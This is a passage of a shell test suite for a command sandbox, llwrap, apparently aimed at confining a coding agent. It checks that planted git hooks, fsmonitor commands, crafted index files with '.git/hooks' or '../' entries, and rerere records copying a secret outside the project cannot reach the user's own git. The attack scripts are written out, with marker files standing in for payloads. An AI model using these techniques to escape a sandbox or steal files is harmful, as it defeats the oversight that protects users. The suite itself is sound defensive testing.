	as_user /bin/sh -ec '
		git init -q "$1" && cd "$1" && mkdir .githooks
		printf "#!/bin/sh\nexit 0\n" >.githooks/pre-commit
		chmod +x .githooks/pre-commit
		echo a >a && git add a && git commit -qm a' sh "$H"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$H" \
			-q -- /bin/sh -c "$HP_SH" sh "$MARKS" hookspath-$how >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$H" -q -- /bin/sh -c "$HP_SH" sh "$MARKS" hookspath-$how
	fi
	as_user git -C "$H" commit -q --allow-empty -m host >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/hookspath-ctrl" ] &&
			ok "control: a hook in the hooksPath an included ~/.gitconfig file names runs in the user's git" ||
			not_ok "control: a hook in the hooksPath an included ~/.gitconfig file names should run"
	elif [ ! -e "$MARKS/hookspath-prot" ] && [ "$rc" -ne 0 ]; then
		ok "opencode: the hooksPath an included ~/.gitconfig file names cannot be changed"
	else
		not_ok "opencode: the hooksPath an included ~/.gitconfig file names was changed"
		diag "status $rc: $out"
	fi
	rm -f "$MARKS"/*
done
run llw -p opencode $BE -C "$H" -q -- "$PROBE" write "$H/.githooks/pre-commit"
expect_was_denied "... the write is refused by the mount" EROFS
run llw -p opencode $BE -C "$H" -q -- /bin/sh -c \
	'git config llwtest.shared && echo b >>a && git commit -qam inside && echo COMMITTED'
expect_output "... the user's include is read inside" "^yes$"
expect_output "... and the hook runs on a commit inside" "^COMMITTED$"
run llw -p opencode $BE -C "$H" -q -- "$PROBE" append "$HOME_DIR/hooks.inc"
expect_was_denied "... the include outside stays unwritable, as the home is" 'EACCES|EROFS'
run llw -p opencode $BE -C "$H" --explain -- /bin/true
expect_output "... --explain names the hooks' mount" "mask rx $H/\\.githooks"
expect_no_output "... and makes no mount of the include outside" "mask ro $HOME_DIR/hooks\\.inc"
mv "$T/gitconfig.saved" "$HOME_DIR/.gitconfig"
rm -f "$HOME_DIR/hooks.inc"

# M3 of the third review (p5): an include written ~user/... (git takes
# that user's home, getpwnam) naming a file in the project: followed, so
# the file is read-only as any include; the user's git then runs nothing
# of the command's.  One of %(prefix)/ (where git is installed) is named
# by --explain, as written, as not followed.
tu=
for u in daemon sys bin root; do
	h=$(getent passwd "$u" | cut -d: -f6)
	[ -d "$h" ] && [ ! -L "$h" ] && [ "${h#/}" != "$h" ] && { tu=$u; break; }
done
if [ -n "$tu" ]; then
	cp "$HOME_DIR/.gitconfig" "$T/gitconfig.saved"
	TI_SH='printf "[core]\n\tfsmonitor = touch %s/%s\n" "$1" "$2" >>.gitinc-a'
	for how in ctrl prot; do
		I=$HOME_DIR/work/inc-tilde-$how
		as_user /bin/sh -ec 'git init -q "$1" && cd "$1" && git commit -q --allow-empty -m a &&
			printf "[llwtest]\n\ttilde = yes\n" >.gitinc-a' sh "$I"
		cp "$T/gitconfig.saved" "$HOME_DIR/.gitconfig"
		printf '[include]\n\tpath = ~%s/../../../../../../../..%s/.gitinc-a\n\tpath = %%(prefix)/llw-none.inc\n' \
			"$tu" "$I" >>"$HOME_DIR/.gitconfig"
		# (The control writes as the user, outside: every profile's
		# git-config now makes the include read-only.)
		if [ $how = ctrl ]; then
			as_user /bin/sh -c 'cd "$3" && '"$TI_SH" sh "$MARKS" tilde-$how "$I"
		else
			run llw -p opencode $BE -C "$I" -q -- /bin/sh -c "$TI_SH" sh "$MARKS" tilde-$how
		fi
		as_user git -C "$I" status >/dev/null 2>&1
		if [ $how = ctrl ]; then
			[ -e "$MARKS/tilde-ctrl" ] &&
				ok "control: a command in an include written ~$tu/..., made in the project, runs in the user's git" ||
				not_ok "control: a command in an include written ~$tu/... should run in the user's git"
		elif [ ! -e "$MARKS/tilde-prot" ] && ! grep -q fsmonitor "$I/.gitinc-a"; then
			ok "opencode: an include written ~$tu/... naming a file of the project cannot be changed"
		else
			not_ok "opencode: an include written ~$tu/... naming a file of the project was changed"
			diag "status $rc: $out"
		fi
		rm -f "$MARKS"/*
	done
	run llw -p opencode $BE -C "$I" -q -- "$PROBE" append "$I/.gitinc-a"
	expect_was_denied "... the write is refused by the mount" EROFS
	run llw -p opencode $BE -C "$I" --explain -- /bin/true
	expect_output "... --explain names its mount" "mask ro $I/\\.gitinc-a"
	expect_output "... and the include of %(prefix)/, as written, not followed" \
		"includes %\\(prefix\\)/llw-none\\.inc, which llwrap cannot follow"
	run llw -p opencode $BE -C "$I" -q -- git config llwtest.tilde
	expect_output "... git reads the include inside" "^yes$"
	mv "$T/gitconfig.saved" "$HOME_DIR/.gitconfig"
else
	for i in 1 2 3 4 5 6; do skip "no user with a home directory to write ~user/ from"; done
fi

# Brief B (DESIGN.md §15, "What remains"): git configuration given in
# the environment llwrap starts in (git -c, git --config-env,
# GIT_CONFIG_COUNT), which the user's git in the same shell reads too,
# during the run and after.  An include there naming a file of the
# project is followed as a file's include is (read-only, or moved aside
# when made), a core.hooksPath there is protected as .git/hooks is, and
# --explain names the variable.  First without protect-git, so that each
# check can fail.
# with_gitenv DIR CMD...: CMD as the test user, with include.path
# DIR/env.inc and core.hooksPath .envhooks counted (GIT_CONFIG_COUNT) and
# include.path DIR/gone.inc as git -c exports it.
with_gitenv() {
	_d=$1
	shift
	as_user env GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=include.path \
		GIT_CONFIG_VALUE_0="$_d/env.inc" \
		GIT_CONFIG_KEY_1=core.hooksPath GIT_CONFIG_VALUE_1=.envhooks \
		GIT_CONFIG_PARAMETERS="'include.path'='$_d/gone.inc'" "$@"
}
ENVCFG_SH='m=$1 t=$2
printf "[core]\n\tfsmonitor = touch %s/%s-inc\n" "$m" "$t" >>env.inc
printf "[core]\n\tfsmonitor = touch %s/%s-gone\n" "$m" "$t" >gone.inc
printf "#!/bin/sh\ntouch %s/%s-hook\n" "$m" "$t" >.envhooks/pre-commit &&
	chmod +x .envhooks/pre-commit
exit 0'
for how in ctrl prot; do
	E=$HOME_DIR/work/envcfg-$how
	as_user /bin/sh -ec 'git init -q "$1" && cd "$1" && mkdir .envhooks &&
		printf "[llwtest]\n\tenv = yes\n" >env.inc &&
		git commit -q --allow-empty -m a' sh "$E"
	if [ $how = ctrl ]; then
		with_gitenv "$E" "$LLWRAP" -p default -p "$T/open.ini" --best-effort \
			-C "$E" -q -- /bin/sh -c "$ENVCFG_SH" sh "$MARKS" $how >/dev/null 2>&1
	else
		run with_gitenv "$E" "$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
			--rx "$LLW_HELPERS" -p opencode $BE -C "$E" -q -- \
			/bin/sh -c "$ENVCFG_SH" sh "$MARKS" $how
	fi
	# (git takes the last core.fsmonitor: the one env.inc sets is
	# the last without GIT_CONFIG_PARAMETERS.)
	with_gitenv "$E" /bin/sh -c 'cd "$1" && git status &&
		GIT_CONFIG_PARAMETERS= git status &&
		git commit -q --allow-empty -m host' sh "$E" >/dev/null 2>&1
	for a in inc gone hook; do
		case $how:$a in
		ctrl:*)
			[ -e "$MARKS/$how-$a" ] &&
				ok "control: attack '$a' through git configuration in the environment runs in the user's git" ||
				not_ok "control: attack '$a' through git configuration in the environment should run in the user's git"
			;;
		prot:inc)
			[ ! -e "$MARKS/$how-$a" ] && ! grep -q fsmonitor "$E/env.inc" &&
				ok "opencode: a file of the project GIT_CONFIG_KEY_0 includes cannot be changed" ||
				{ not_ok "opencode: a file of the project GIT_CONFIG_KEY_0 includes was changed"; diag "status $rc: $out"; }
			;;
		prot:gone)
			if [ ! -e "$MARKS/$how-$a" ] && [ ! -e "$E/gone.inc" ] &&
				printf '%s\n' "$out" | grep -q "the command created $E/gone\\.inc, which git reads later.*moved aside"; then
				ok "opencode: a missing file GIT_CONFIG_PARAMETERS includes, made inside, is moved aside and named"
			else
				not_ok "opencode: a missing file GIT_CONFIG_PARAMETERS includes, made inside, is moved aside"
				diag "status $rc: $out"
			fi
			;;
		prot:hook)
			[ ! -e "$MARKS/$how-$a" ] && [ ! -e "$E/.envhooks/pre-commit" ] &&
				ok "opencode: the core.hooksPath GIT_CONFIG_KEY_1 names cannot be written" ||
				{ not_ok "opencode: the core.hooksPath GIT_CONFIG_KEY_1 names was written"; diag "status $rc: $out"; }
			;;
		esac
	done
	rm -f "$MARKS"/*
done
run with_gitenv "$E" "$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
	--rx "$LLW_HELPERS" -p opencode $BE -C "$E" -q -- "$PROBE" append "$E/env.inc"
expect_was_denied "... the write is refused by the mount" EROFS
run with_gitenv "$E" "$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
	-p opencode $BE -C "$E" --explain -- /bin/true
expect_output "... --explain names the include's mount and the variable" \
	"mask ro $E/env\\.inc.*included by the environment: GIT_CONFIG_KEY_0"
expect_output "... and the missing one, watched for" \
	"$E/gone\\.inc \\(included by the environment: GIT_CONFIG_PARAMETERS\\) does not exist: one created inside the sandbox is moved aside"
expect_output "... and the hooks' mount" "mask rx $E/\\.envhooks"
# The legitimate neighbour: with the variables kept, git inside reads
# the include (read-only) and commits; a harmless key in the environment
# changes nothing.
run with_gitenv "$E" "$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
	--rx "$LLW_HELPERS" -p opencode $BE -C "$E" -q \
	--env-keep 'GIT_CONFIG_*' -- /bin/sh -c \
	'git config llwtest.env && git commit -q --allow-empty -m inside && echo COMMITTED'
expect_output "... git inside reads the environment's include" "^yes$"
expect_output "... and commits" "^COMMITTED$"
run as_user env GIT_CONFIG_PARAMETERS="'llwtest.harmless'='yes'" \
	"$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
	-p opencode $BE -C "$E" -q --env-keep GIT_CONFIG_PARAMETERS -- \
	git config llwtest.harmless
expect_output "... a harmless key given by git -c runs, and git reads it" "^yes$"
# Without user namespaces the monitor holds them as it holds
# .git/config: a change is moved aside and the start's content restored.
if [ -z "$held_skip" ]; then
	E=$HOME_DIR/work/envcfg-held
	as_user /bin/sh -ec 'git init -q "$1" && cd "$1" && mkdir .envhooks &&
		printf "[llwtest]\n\tenv = yes\n" >env.inc &&
		git commit -q --allow-empty -m a' sh "$E"
	run with_gitenv "$E" env LLW_HOOK_NO_USERNS=1 "$HOOKED" --rx "$LLW_HELPERS" \
		-p "$T/held.ini" -C "$E" -q -- /bin/sh -c "$ENVCFG_SH" sh "$MARKS" held
	with_gitenv "$E" /bin/sh -c 'cd "$1" && git status &&
		GIT_CONFIG_PARAMETERS= git status &&
		git commit -q --allow-empty -m host' sh "$E" >/dev/null 2>&1
	if ! ls "$MARKS" | grep -q '^held-' && ! grep -q fsmonitor "$E/env.inc" &&
		grep -q "env = yes" "$E/env.inc" && [ ! -e "$E/gone.inc" ] &&
		[ ! -e "$E/.envhooks/pre-commit" ] &&
		printf '%s\n' "$out" | grep -q "changed $E/env\\.inc, which git reads later.*moved aside"; then
		ok "no user namespaces: what the environment's configuration names is held, a change moved aside and undone"
	else
		not_ok "no user namespaces: what the environment's configuration names is held, a change moved aside and undone"
		diag "status $rc, ran: $(ls "$MARKS" | tr '\n' ' '): $out"
	fi
	rm -f "$MARKS"/*
fi
# A malformed one: git refuses to run with it, and so does llwrap,
# saying what to fix, rather than guess what the user's git would read.
run as_user env GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=llwtest.a \
	GIT_CONFIG_VALUE_0=b git -C "$E" status
[ "$rc" -ne 0 ] && ok "control: git refuses a GIT_CONFIG_COUNT beyond its keys" ||
	not_ok "control: git should refuse a GIT_CONFIG_COUNT beyond its keys"
marker=$E/ran-malformed
expect_refused "opencode: a GIT_CONFIG_COUNT beyond its keys refuses the run, naming what to fix" \
	"missing config key GIT_CONFIG_KEY_1.*unset GIT_CONFIG_COUNT" \
	as_user env GIT_CONFIG_COUNT=2 GIT_CONFIG_KEY_0=llwtest.a \
	GIT_CONFIG_VALUE_0=b "$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
	--rx "$LLW_HELPERS" -p opencode $BE -C "$E" -q -- touch "$marker"
expect_refused "opencode: a relative include given by git -c refuses the run" \
	"include\\.path = 'x\\.inc' names no absolute path" \
	as_user env GIT_CONFIG_PARAMETERS="'include.path'='x.inc'" \
	"$LLWRAP" ${LLW_BACKEND:+--backend "$LLW_BACKEND"} \
	--rx "$LLW_HELPERS" -p opencode $BE -C "$E" -q -- touch "$marker"

# H8 (p3): a repository the command makes, whose remote is a bare
# repository it left in the project with a post-receive hook: the user's
# git push ran the hook.  The config that names it is moved aside (a
# remote's address only over the network); one with an https remote is
# kept.
NEWREPO_SH='git init -q . && echo hi >README && git add README && git commit -qm init &&
git init -q --bare vendor-cache &&
printf "#!/bin/sh\ntouch %s/%s\n" "$1" "$2" >vendor-cache/hooks/post-receive &&
chmod +x vendor-cache/hooks/post-receive && git remote add origin ./vendor-cache &&
git config branch.main.remote origin && git config branch.main.merge refs/heads/main'
for how in ctrl prot; do
	N=$HOME_DIR/work/newremote-$how
	as_user mkdir -p "$N"
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$NEWREPO_SH" sh "$MARKS" newremote-$how >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -q -- /bin/sh -c "$NEWREPO_SH" sh "$MARKS" newremote-$how
	fi
	as_user /bin/sh -c 'cd "$1" && git push -q origin HEAD; git push -q' sh "$N" >/dev/null 2>&1
	if [ $how = ctrl ]; then
		[ -e "$MARKS/newremote-ctrl" ] &&
			ok "control: a new repository's local remote runs its hook on the user's push" ||
			not_ok "control: a new repository's local remote should run its hook on the user's push"
	elif [ ! -e "$MARKS/newremote-prot" ] && ! grep -qs vendor-cache "$N/.git/config" &&
		printf '%s\n' "$out" | grep -q "$N/\\.git/config, which git (it sets remote\\.origin\\.url to '\\./vendor-cache', not a network address) reads later.*moved aside"; then
		ok "opencode: a new repository's local remote is moved aside with its config, and named"
	else
		not_ok "opencode: a new repository's local remote is moved aside"
		diag "status $rc: $out"
	fi
	rm -f "$MARKS"/*
done
# Review L, L4: git checks an index entry's path when it adds one, not
# when it checks files out of the index: an entry .git/hooks/post-checkout
# the command wrote into the index had the user's `git checkout -- .`
# write the hook into the repository (the read-only mount is the
# sandbox's alone) and run it at once.  The index is moved aside as it is
# written and the sandbox stopped; the control shows the checkout
# running it.
BADINDEX_PY='
import hashlib, struct, subprocess, sys
blob = subprocess.check_output(["git", "hash-object", "-w", "--stdin"],
    input=("#!/bin/sh\ntouch %s/%s\n" % (sys.argv[1], sys.argv[2])).encode()).strip()
name = sys.argv[3].encode()
e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100755, 0, 0, 0) + bytes.fromhex(blob.decode())
e += struct.pack(">H", len(name)) + name
e += b"\0" * (8 - (len(e) % 8))
out = b"DIRC" + struct.pack(">II", 2, 1) + e
open(".git/index", "wb").write(out + hashlib.sha1(out).digest())
'
if command -v python3 >/dev/null 2>&1; then
	for how in ctrl prot; do
		BADNAME=.git/hooks/post-checkout
		N=$HOME_DIR/work/badindex-$how
		as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a &&
			git commit -qm a' sh "$N"
		if [ $how = ctrl ]; then
			as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
				-q -- python3 -c "$BADINDEX_PY" "$MARKS" badindex-$how "$BADNAME" >/dev/null 2>&1
		else
			run llw -p opencode $BE -C "$N" -q -- /bin/sh -c \
				'python3 -c "$1" "$2" "$3" "$4" && sleep 2 && echo NOT-STOPPED' sh "$BADINDEX_PY" "$MARKS" badindex-$how "$BADNAME"
		fi
		as_user /bin/sh -c 'cd "$1" && git checkout -- .' sh "$N" >/dev/null 2>&1
		if [ $how = ctrl ]; then
			[ -e "$MARKS/badindex-ctrl" ] &&
				ok "control: an index entry .git/hooks/post-checkout: the user's git checkout -- . writes the hook and runs it" ||
				not_ok "control: an index entry .git/hooks/post-checkout should have the user's checkout run it"
		elif [ ! -e "$MARKS/badindex-prot" ] && [ ! -e "$N/.git/hooks/post-checkout" ] && [ "$rc" -eq 125 ] &&
			! printf '%s\n' "$out" | grep -q NOT-STOPPED &&
			printf '%s\n' "$out" | grep -q "the command wrote an entry '\\.git/hooks/post-checkout' into the git index $N/\\.git/index, a path git itself refuses to write" &&
			printf '%s\n' "$out" | grep -q "$N/\\.git/index, which git checkout and restore .*moved aside"; then
			ok "opencode: an index entry .git/hooks/post-checkout: the index is moved aside, the sandbox stopped (125), said; the user's checkout runs nothing"
		else
			not_ok "opencode: an index entry .git/hooks/post-checkout: the index is moved aside and the sandbox stopped"
			diag "status $rc: $out"; diag "$(ls "$MARKS" "$N/.git/hooks")"
		fi
		rm -f "$MARKS"/*
	done
	# ... nor does it check ".." there: an entry ../NAME had the user's
	# checkout write NAME beside the project, outside it (../.bashrc).
	for how in ctrl prot; do
		N=$HOME_DIR/work/upindex-$how
		as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a &&
			git commit -qm a' sh "$N"
		if [ $how = ctrl ]; then
			as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
				-q -- python3 -c "$BADINDEX_PY" "$MARKS" upindex-$how "../upindex-$how.out" >/dev/null 2>&1
		else
			run llw -p opencode $BE -C "$N" -q -- python3 -c "$BADINDEX_PY" "$MARKS" upindex-$how "../upindex-$how.out"
		fi
		as_user /bin/sh -c 'cd "$1" && git checkout -- .' sh "$N" >/dev/null 2>&1
		if [ $how = ctrl ]; then
			[ -e "$HOME_DIR/work/upindex-ctrl.out" ] &&
				ok "control: an index entry ../NAME: the user's git checkout -- . writes NAME outside the work tree" ||
				not_ok "control: an index entry ../NAME should have the user's checkout write outside the work tree"
		elif [ ! -e "$HOME_DIR/work/upindex-prot.out" ] && [ "$rc" -eq 125 ] &&
			printf '%s\n' "$out" | grep -q "the command wrote an entry '\\.\\./upindex-prot\\.out' into the git index"; then
			ok "opencode: an index entry ../NAME: the index is moved aside, the run fails (125); the user's checkout writes nothing outside"
		else
			not_ok "opencode: an index entry ../NAME: the index is moved aside and the run fails"
			diag "status $rc: $out"
		fi
	done
	# The legitimate neighbour: git's own index, staged files in
	# subdirectories, is left.
	N=$HOME_DIR/work/goodindex
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a && git commit -qm a' sh "$N"
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'mkdir -p d/e && echo x >d/e/f && echo y >.hidden && git add -A && echo STAGED'
	if [ "$rc" -eq 0 ] && [ -f "$N/.git/index" ] && as_user git -C "$N" diff --cached --name-only | grep -q '^d/e/f$'; then
		ok "... git's own index with staged files is left"
	else
		not_ok "git's own index with staged files is left"
		diag "status $rc: $out"
	fi
else
	skip "an index entry .git/hooks/...: needs python3"
fi

# Review L, L8: with .git/rr-cache/ there, git commit runs rerere, which
# copies each file MERGE_RR names (unchecked) into rr-cache/ID/postimage:
# a planted record ../NAME had the user's plain git commit copy a file
# from outside the project (an ssh key) into the repository, where the
# next run reads it.  MERGE_RR is moved aside as written and the run
# fails; the control shows the copy.
RERERE_SH='ID=0123456789abcdef0123456789abcdef01234567; mkdir -p .git/rr-cache/$ID &&
echo pre >.git/rr-cache/$ID/preimage && printf "%s\t../%s\0" $ID "$1" >.git/MERGE_RR && sleep 1 && echo NOT-STOPPED'
for how in ctrl prot; do
	N=$HOME_DIR/work/rerere-$how
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a && git commit -qm a &&
		echo "SECRET-$2" >"../rerere-$2.secret" && chmod 600 "../rerere-$2.secret"' sh "$N" $how
	if [ $how = ctrl ]; then
		as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
			-q -- /bin/sh -c "$RERERE_SH" sh rerere-$how.secret >/dev/null 2>&1
	else
		run llw -p opencode $BE -C "$N" -q -- /bin/sh -c "$RERERE_SH" sh rerere-$how.secret
	fi
	as_user /bin/sh -c 'cd "$1" && echo b >a && git commit -qam b' sh "$N" >/dev/null 2>&1
	if [ $how = ctrl ]; then
		grep -qs SECRET-ctrl "$N"/.git/rr-cache/*/postimage &&
			ok "control: a planted MERGE_RR has the user's git commit copy a file outside the project into rr-cache" ||
			not_ok "control: a planted MERGE_RR should have the user's git commit copy the file"
	elif ! grep -qs SECRET-prot "$N"/.git/rr-cache/*/postimage && [ "$rc" -eq 125 ] &&
		! printf '%s\n' "$out" | grep -q NOT-STOPPED &&
		printf '%s\n' "$out" | grep -q "the command wrote git rerere's $N/\\.git/MERGE_RR with a path '\\.\\./rerere-prot\\.secret'"; then
		ok "opencode: a planted MERGE_RR is moved aside, the sandbox stopped (125), said; the user's commit copies nothing"
	else
		not_ok "opencode: a planted MERGE_RR is moved aside and the sandbox stopped"
		diag "status $rc: $out"; diag "$(ls "$N/.git" "$N"/.git/rr-cache/*)"
	fi
done
# The legitimate neighbour: rerere on, a real conflict recorded and
# resolved inside, the user's commit afterwards.
N=$HOME_DIR/work/rerere-real
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >f && git add f && git commit -qm a &&
	git checkout -qb other && echo b >f && git commit -qam b && git checkout -q - && echo c >f && git commit -qam c &&
	mkdir .git/rr-cache' sh "$N"
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'git merge -q other >/dev/null 2>&1; echo resolved >f && git add f && git commit -qm m && echo MERGED'
if [ "$rc" -eq 0 ] && printf '%s\n' "$out" | grep -q '^MERGED$' && ls "$N"/.git/rr-cache/*/postimage >/dev/null 2>&1; then
	ok "... a merge with rerere on inside records its resolution, and the run is not stopped"
else
	not_ok "a merge with rerere on inside should record its resolution"
	diag "status $rc: $out"
fi
# Review R: rerere opens a record's PATH following links, the last
# component too: a record naming a link the command made in the work
# tree (lnk -> the secret outside) had the user's commit copy the secret
# alike, in the project's repository and in one nested in it.
RERERE_LNK_SH='ID=0123456789abcdef0123456789abcdef01234567; cd "$2" && mkdir -p .git/rr-cache/$ID &&
echo pre >.git/rr-cache/$ID/preimage && ln -s "$1" lnk && printf "%s\tlnk\0" $ID >.git/MERGE_RR && echo PLANTED'
for where in top nest; do
	N=$HOME_DIR/work/rererelnk-$where
	as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git init -q nest && echo n >nest/n &&
		git -C nest add n && git -C nest commit -qm n && git add a && git commit -qm a &&
		echo "SECRET-LNK" >"../rererelnk.secret" && chmod 600 "../rererelnk.secret"' sh "$N"
	d=.; [ $where = nest ] && d=nest
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c "$RERERE_LNK_SH" sh "$HOME_DIR/work/rererelnk.secret" $d
	as_user /bin/sh -c 'cd "$1" && echo b >>a && git add a && git commit -qm b' sh "$N/$d" >/dev/null 2>&1
	if ! grep -qs SECRET-LNK "$N/$d"/.git/rr-cache/*/postimage && [ "$rc" -eq 125 ] &&
		printf '%s\n' "$out" | grep -q "the command wrote git rerere's $N/\\(nest/\\)\\{0,1\\}\\.git/MERGE_RR with a path 'lnk' git would open through a symbolic link"; then
		ok "opencode ($where): a MERGE_RR record naming a link to a file outside: moved aside, the run fails (125); the user's commit copies nothing"
	else
		not_ok "opencode ($where): a MERGE_RR record naming a link to a file outside is moved aside"
		diag "status $rc: $out"; diag "$(ls "$N/$d/.git" "$N/$d"/.git/rr-cache/*)"
	fi
done

# Review R: git reads an index's entries by its offset table (IEOT, with
# EOIE naming where the extensions start) when it reads with threads
# (index.threads; by itself with 10,000 entries a thread on 3 CPUs or
# more): an entry .git/hooks/post-checkout in an extension's data, named
# by a crafted table, was read by the user's threaded git and by nothing
# of llwrap's, and the user's git checkout -- . wrote the hook and ran
# it.  An index whose table disagrees with its entries is moved aside and
# the run fails; git's own tables (v2 and v4) are left.
IEOT_PY='
import hashlib, struct, subprocess, sys
def blob(d):
    return subprocess.run(["git", "hash-object", "-w", "--stdin"], input=d, capture_output=True, check=True).stdout.strip().decode()
def entry(mode, oid, name):
    e = struct.pack(">10I", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(oid) + struct.pack(">H", len(name)) + name
    return e + b"\0" * (8 - len(e) % 8)
hook = blob(("#!/bin/sh\ntouch %s/%s\n" % (sys.argv[1], sys.argv[2])).encode())
ok = blob(b"ok\n")
out = b"DIRC" + struct.pack(">II", 2, 2) + entry(0o100644, ok, b".aaa")
off_z = len(out)
out += entry(0o100644, ok, b"z")
ext = len(out)
untr = b"\0" * 8 + entry(0o100755, hook, b".git/hooks/post-checkout")
exts = [(b"UNTR", untr), (b"IEOT", struct.pack(">IIIII", 1, ext + 16, 1, off_z, 1))]
h = hashlib.sha1()
for sig, d in exts:
    out += sig + struct.pack(">I", len(d)) + d
    h.update(sig + struct.pack(">I", len(d)))
out += b"EOIE" + struct.pack(">II", 24, ext) + h.digest()
open(".git/index", "wb").write(out + hashlib.sha1(out).digest())
'
if command -v python3 >/dev/null 2>&1; then
	for how in ctrl prot; do
		N=$HOME_DIR/work/ieot-$how
		as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo a >a && git add a && git commit -qm a' sh "$N"
		if [ $how = ctrl ]; then
			as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$N" \
				-q -- python3 -c "$IEOT_PY" "$MARKS" ieot-$how >/dev/null 2>&1
		else
			run llw -p opencode $BE -C "$N" -q -- /bin/sh -c \
				'python3 -c "$1" "$2" "$3" && sleep 2 && echo NOT-STOPPED' sh "$IEOT_PY" "$MARKS" ieot-$how
		fi
		as_user /bin/sh -c 'cd "$1" && git -c index.threads=4 checkout -- .' sh "$N" >/dev/null 2>&1
		if [ $how = ctrl ]; then
			[ -e "$MARKS/ieot-ctrl" ] &&
				ok "control: an index entry read by the offset table only: the user's threaded checkout writes the hook and runs it" ||
				not_ok "control: an index entry read by the offset table only should have the user's threaded checkout run it"
		elif [ ! -e "$MARKS/ieot-prot" ] && [ ! -e "$N/.git/hooks/post-checkout" ] && [ "$rc" -eq 125 ] &&
			! printf '%s\n' "$out" | grep -q NOT-STOPPED &&
			printf '%s\n' "$out" | grep -q "cannot read the git index $N/\\.git/index"; then
			ok "opencode: an index whose offset table disagrees with its entries: moved aside, the sandbox stopped (125); the user's checkout runs nothing"
		else
			not_ok "opencode: an index whose offset table disagrees with its entries is moved aside"
			diag "status $rc: $out"; diag "$(ls "$MARKS" "$N/.git/hooks")"
		fi
		rm -f "$MARKS"/*
	done
	for v in 2 4; do
		N=$HOME_DIR/work/ieot-git$v
		as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git config index.threads 4 &&
			git config index.recordOffsetTable true && git config index.recordEndOfIndexEntries true &&
			git config index.version $2 && mkdir d && for i in $(seq 1 200); do echo $i >d/name-$i; done &&
			git add . && git commit -qm a' sh "$N" $v
		run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'for i in $(seq 1 40); do echo x >>d/name-$i; done &&
			git add -A && echo STAGED'
		if [ "$rc" -eq 0 ] && [ -f "$N/.git/index" ] && printf '%s\n' "$out" | grep -q STAGED &&
			[ "$(as_user git -C "$N" diff --cached --name-only | wc -l)" -eq 40 ]; then
			ok "git's own offset table (index version $v, index.threads) is left, the user's and one written inside"
		else
			not_ok "git's own offset table (index version $v) is left"
			diag "status $rc: $out"; diag "$(ls "$N/.git")"
		fi
	done
else
	skip "an index's offset table: needs python3"
fi

# Review R: index formats git writes itself are not entries git refuses:
# a split index (core.splitIndex) names the entries that replace its
# shared index's by position (no name), a sparse index (sparse-checkout
# --sparse-index) has directories ending in '/'.  Both had the user's own
# index moved aside at the start, and nothing run.
N=$HOME_DIR/work/splitindex
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && git config core.splitIndex true &&
	for i in 1 2 3; do echo $i >f$i; done && git add . && git commit -qm a &&
	echo x >>f1 && git add f1' sh "$N"
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'echo y >>f2 && git add f2 && echo STAGED'
if [ "$rc" -eq 0 ] && [ -f "$N/.git/index" ] && printf '%s\n' "$out" | grep -q STAGED &&
	[ "$(as_user git -C "$N" diff --cached --name-only | tr '\n' ' ')" = "f1 f2 " ]; then
	ok "a split index (core.splitIndex), the user's and one git writes during the run, is left"
else
	not_ok "a split index (core.splitIndex) is left"
	diag "status $rc: $out"; diag "$(ls "$N/.git")"
fi
N=$HOME_DIR/work/sparseindex
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && mkdir -p a b/c && echo 1 >a/x && echo 2 >b/c/y &&
	git add . && git commit -qm a && git sparse-checkout init --cone --sparse-index &&
	git sparse-checkout set a' sh "$N" >/dev/null 2>&1
if as_user git -C "$N" ls-files --sparse 2>/dev/null | grep -qx 'b/'; then
	run llw -p opencode $BE -C "$N" -q -- /bin/sh -c 'echo y >>a/x && git add a/x && echo STAGED'
	if [ "$rc" -eq 0 ] && [ -f "$N/.git/index" ] && printf '%s\n' "$out" | grep -q STAGED &&
		as_user git -C "$N" ls-files --sparse | grep -qx 'b/'; then
		ok "a sparse index (sparse-checkout --sparse-index) with a directory entry is left"
	else
		not_ok "a sparse index (sparse-checkout --sparse-index) is left"
		diag "status $rc: $out"; diag "$(ls "$N/.git")"
	fi
else
	skip "a sparse index: this git writes none"
fi

# Review L, L5: git update-index --assume-unchanged (or --skip-worktree)
# inside hides the command's change to a tracked file from the user's
# git status and git diff (VS Code's changes view too), the review that
# comes before running the project's Makefile.  Said after the run, with
# the files; the user's own mark from before the run is not named.
N=$HOME_DIR/work/hidden
as_user /bin/sh -c 'git init -q "$1" && cd "$1" && echo "all:; @echo ok" >Makefile && echo k >local.cfg &&
